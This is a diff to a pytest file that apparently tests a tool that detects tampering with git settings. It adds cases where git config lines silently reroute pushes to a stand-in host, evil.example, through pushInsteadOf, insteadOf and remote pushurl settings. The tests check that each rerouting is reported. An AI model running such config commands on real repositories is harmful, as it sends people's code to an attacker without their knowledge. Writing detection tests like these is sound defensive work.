@@ -278,6 +278,14 @@ CHANGES: dict[str, tuple[str, Said]] = {
         f"{EMBEDDED}; mv new/.git there; ln -s ../there new/.git; {LINKED} new",
         [("new/.git", "unreadable", ())],
     ),
+    "where every push goes": (
+        "git config url.https://evil.example/.pushInsteadOf https://",
+        [(".git/config", "rerouted", ("url.https://evil.example/.pushinsteadof",))],
+    ),
+    "where every push of a worktree goes": (
+        "git config -f .git/worktrees/w/config.worktree url.https://evil.example/.insteadOf https://",
+        [(".git/worktrees/w/config.worktree", "rerouted", ("url.https://evil.example/.insteadof",))],
+    ),
     "where a checkout writes": (
         "git config core.worktree ../../home",
         [(".git/config", "worktree", ("../home",))],
@@ -360,6 +368,25 @@ def test_more_than_is_looked_at_is_told(top: Path, directory: str, monkeypatch: 
                 (path / name).touch()
 
     assert "unreadable" in [what for _, what, _ in told(top, make_many)]
+
+
+@pytest.mark.parametrize(
+    ("file", "is_told"),
+    [
+        pytest.param(".git/config", True, id="of the repository"),
+        pytest.param("shared", True, id="included"),
+        pytest.param(".git/worktrees/w/config.worktree", True, id="of a worktree"),
+        pytest.param(".git/worktrees/v/config.worktree", True, id="of a new worktree"),
+        pytest.param(".git/modules/d/config", False, id="of a new submodule, whose remote it is"),
+    ],
+)
+def test_another_address_of_a_remote_is_told_whichever_settings_have_it(
+    file: str, is_told: bool, top: Path
+) -> None:
+    script("git config remote.origin.url https://host.example/a.git")(top)
+    act = f"mkdir -p {os.path.dirname(file) or '.'}; git config -f {file} remote.origin.pushurl https://evil.example"
+    said = told(top, lambda: script(act)(top))
+    assert said == ([(file, "rerouted", ("remote.origin.pushurl",))] if is_told else [])
 
 
 def test_settings_whose_names_would_fill_the_memory_are_told(top: Path) -> None:
